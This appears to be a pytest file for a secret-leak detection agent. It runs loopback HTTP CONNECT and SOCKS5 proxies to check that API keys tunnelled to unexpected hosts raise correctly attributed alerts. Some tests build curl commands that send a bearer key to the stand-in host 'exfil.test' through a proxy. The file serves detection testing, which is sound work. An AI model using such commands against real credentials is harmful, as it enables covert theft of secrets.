"""Keys sent through HTTP CONNECT and SOCKS5 proxies (issue 15, item 5), on the real kernel.

curl in the test cgroup talks to a small proxy on loopback (in this process, outside the
cgroup), which answers the handshake and relays the connection to a loopback server whatever
name the client asked for. The alert must name the tunnel's target as the destination and the
proxy as the path (destination.via); a key sent to its own provider through the proxy raises
nothing. Proxies and relays are threads with socket timeouts, so nothing here outlives a test.
"""

import json
import socket
import threading
import time

import pytest

from kharness.servers import sha256

ALERT_TIMEOUT = 5.0
QUIET_PERIOD = 3.0
IO_TIMEOUT = 10.0

# curl honours NO_PROXY for -x proxies too; the client runner sets it to "*" by default.
PROXY_ENV = {"NO_PROXY": "", "no_proxy": ""}


def _relay(a: socket.socket, b: socket.socket) -> None:
    """Copies a -> b until either side closes or goes quiet for IO_TIMEOUT."""
    try:
        while True:
            data = a.recv(65536)
            if not data:
                break
            b.sendall(data)
    except OSError:
        pass
    finally:
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def _read_exactly(conn: socket.socket, n: int) -> bytes:
    out = b""
    while len(out) < n:
        chunk = conn.recv(n - len(out))
        if not chunk:
            raise ConnectionError("client closed mid-handshake")
        out += chunk
    return out


class LoopbackProxy:
    """An HTTP CONNECT ("connect") or SOCKS5 ("socks5") proxy on 127.0.0.1 that relays every
    tunnel to 127.0.0.1:<upstream_port> and records the (host, port) each client asked for."""

    def __init__(self, kind: str, upstream_port: int):
        self.kind = kind
        self.upstream_port = upstream_port
        self.targets: list[tuple[str, int]] = []
        self._sock = socket.socket()
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(8)
        self._sock.settimeout(0.2)
        self.port = self._sock.getsockname()[1]
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._accept = threading.Thread(target=self._serve, daemon=True)
        self._accept.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except (socket.timeout, OSError):
                continue
            t = threading.Thread(target=self._handle, args=(conn,), daemon=True)
            self._threads.append(t)
            t.start()

    def _handshake(self, conn: socket.socket) -> tuple[str, int]:
        if self.kind == "connect":
            head = b""
            while b"\r\n\r\n" not in head:
                chunk = conn.recv(4096)
                if not chunk or len(head) > 16384:
                    raise ConnectionError("no CONNECT head")
                head += chunk
            method, authority, _ = head.split(b"\r\n", 1)[0].decode().split(" ", 2)
            if method != "CONNECT":
                raise ConnectionError("not CONNECT")
            host, port = authority.rsplit(":", 1)
            conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
            return host, int(port)
        version, nmethods = _read_exactly(conn, 2)
        methods = _read_exactly(conn, nmethods)
        if version != 5 or 0 not in methods:
            raise ConnectionError("no SOCKS5 no-auth method")
        conn.sendall(b"\x05\x00")
        _, cmd, _, atyp = _read_exactly(conn, 4)
        if atyp == 3:
            host = _read_exactly(conn, _read_exactly(conn, 1)[0]).decode()
        elif atyp == 1:
            host = socket.inet_ntop(socket.AF_INET, _read_exactly(conn, 4))
        else:
            host = socket.inet_ntop(socket.AF_INET6, _read_exactly(conn, 16))
        port = int.from_bytes(_read_exactly(conn, 2), "big")
        if cmd != 1:
            raise ConnectionError("not CONNECT")
        conn.sendall(b"\x05\x00\x00\x01\x7f\x00\x00\x01" + port.to_bytes(2, "big"))
        return host, port

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(IO_TIMEOUT)
        try:
            target = self._handshake(conn)
            upstream = socket.create_connection(("127.0.0.1", self.upstream_port),
                                                timeout=IO_TIMEOUT)
        except (OSError, ValueError):
            conn.close()
            return
        self.targets.append(target)
        back = threading.Thread(target=_relay, args=(upstream, conn), daemon=True)
        back.start()
        _relay(conn, upstream)
        back.join(timeout=IO_TIMEOUT)
        conn.close()
        upstream.close()

    def close(self) -> None:
        self._stop.set()
        self._accept.join(timeout=2)
        self._sock.close()
        for t in self._threads:
            t.join(timeout=IO_TIMEOUT)


@pytest.fixture
def make_proxy():
    made: list[LoopbackProxy] = []

    def make(kind: str, upstream_port: int) -> LoopbackProxy:
        proxy = LoopbackProxy(kind, upstream_port)
        made.append(proxy)
        return proxy

    yield make
    for proxy in made:
        proxy.close()


def _header_file(scratch, key):
    path = scratch / "headers"
    path.write_text(f"Authorization: Bearer {key}\n")
    return path


def _curl(scratch, key, proxy_args, url, pki=None):
    argv = ["curl", "-sS", "--fail", "--max-time", "15", "--http1.1", *proxy_args,
            "-H", f"@{_header_file(scratch, key)}", "--data-binary", '{"model":"x"}', url]
    if pki is not None:
        argv[1:1] = ["--cacert", str(pki.ca)]
    return argv


def _proxy_args(proxy: LoopbackProxy, tunnel_plain_http: bool = False) -> list[str]:
    if proxy.kind == "socks5":
        return ["--socks5-hostname", f"127.0.0.1:{proxy.port}"]
    # Plain http:// through an HTTP proxy is a forward-proxy request unless tunnelled (-p).
    return ["-x", f"http://127.0.0.1:{proxy.port}"] + (["-p"] if tunnel_plain_http else [])


def _shown(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _openai_alerts(agent):
    return agent.wait_for_alerts(lambda a: (a.get("secret") or {}).get("provider") == "openai",
                                 timeout=ALERT_TIMEOUT)


def _expect_one_alert(agent, proxy, host, port, name_source, transport):
    alerts = _openai_alerts(agent)
    assert alerts, f"no openai alert within {ALERT_TIMEOUT}s\n{agent.diagnostics()}"
    dest = alerts[0]["destination"]
    want_kind = "http-connect" if proxy.kind == "connect" else "socks5"
    assert (dest["host"], dest["port"], dest["name_source"], dest["transport"]) == (
        host, port, name_source, transport), _shown(agent, alerts)
    assert dest.get("via") == {"kind": want_kind, "host": "", "ip": "127.0.0.1",
                               "port": proxy.port}, _shown(agent, alerts)
    assert dest["ip"] != "127.0.0.1", "the proxy's address is not the destination"
    assert "api.openai.com" in dest["expected"]
    assert alerts[0]["process"]["comm"] == "curl"
    assert host in alerts[0]["summary"] and "not an expected destination" in alerts[0]["summary"]
    assert alerts[0]["secret"]["redacted"] and alerts[0]["secret"]["fingerprint"]
    time.sleep(QUIET_PERIOD)
    everything = agent.alerts()
    assert len(everything) == 1, f"want exactly one alert:\n{_shown(agent, everything)}"


def _wait_counter(agent, name, at_least=1, timeout=5.0) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = agent.counter(name)
        if value >= at_least:
            return value
        time.sleep(0.2)
    return agent.counter(name)


@pytest.mark.parametrize("kind", ["connect", "socks5"])
def test_tls_through_a_proxy_alerts_naming_the_target_and_the_proxy(
        kind, agent, clients, https_server, make_proxy, pki, registry, scratch):
    key = registry.new("openai")
    proxy = make_proxy(kind, https_server.port)
    clients.run(_curl(scratch, key, _proxy_args(proxy), "https://exfil.test/v1/chat", pki),
                env=PROXY_ENV)
    [req] = https_server.wait_for_requests(1)
    assert (req.sni, req.header_digests.get("authorization")) == (
        "exfil.test", sha256(f"Bearer {key}"))
    assert proxy.targets == [("exfil.test", 443)]
    _expect_one_alert(agent, proxy, "exfil.test", 443, "sni", "tls")


@pytest.mark.parametrize("kind", ["connect", "socks5"])
def test_plain_http_through_a_tunnel_is_judged_by_the_tunnels_target(
        kind, agent, clients, http_server, make_proxy, registry, scratch):
    key = registry.new("openai")
    proxy = make_proxy(kind, http_server.port)
    clients.run(_curl(scratch, key, _proxy_args(proxy, tunnel_plain_http=True),
                      "http://exfil.test:8080/v1/chat"), env=PROXY_ENV)
    [req] = http_server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")
    assert proxy.targets == [("exfil.test", 8080)]
    # No SNI here: only the handshake names exfil.test; the socket's peer is the proxy.
    _expect_one_alert(agent, proxy, "exfil.test", 8080, "tunnel", "tcp")
    counter = "tunnels_http_connect" if kind == "connect" else "tunnels_socks5"
    assert _wait_counter(agent, counter) == 1, agent.diagnostics()


@pytest.mark.parametrize("kind,tls", [("connect", True), ("socks5", True), ("socks5", False),
                                      ("connect", False)])
def test_a_key_to_its_own_provider_through_a_proxy_raises_nothing(
        kind, tls, agent, clients, http_server, https_server, make_proxy, pki, registry,
        scratch):
    key = registry.new("openai")
    server = https_server if tls else http_server
    proxy = make_proxy(kind, server.port)
    url = "https://api.openai.com/v1/chat" if tls else "http://api.openai.com/v1/chat"
    result = clients.run(_curl(scratch, key, _proxy_args(proxy, tunnel_plain_http=not tls), url,
                               pki if tls else None), env=PROXY_ENV)
    [req] = server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")
    assert proxy.targets == [("api.openai.com", 443 if tls else 80)]
    time.sleep(QUIET_PERIOD)
    assert agent.alerts() == [], f"expected destination alerted:\n{agent.diagnostics()}"
    # Silence means something only if the agent saw curl's writes and followed its tunnel.
    assert [e for e in agent.trace_events() if e.get("pid") == result.pid], (
        f"agent received no kernel record from curl pid {result.pid}")
    counter = "tunnels_http_connect" if kind == "connect" else "tunnels_socks5"
    assert _wait_counter(agent, counter) == 1, agent.diagnostics()
    assert agent.counter("secrets_to_expected_destinations") >= 1, "the key was never judged"
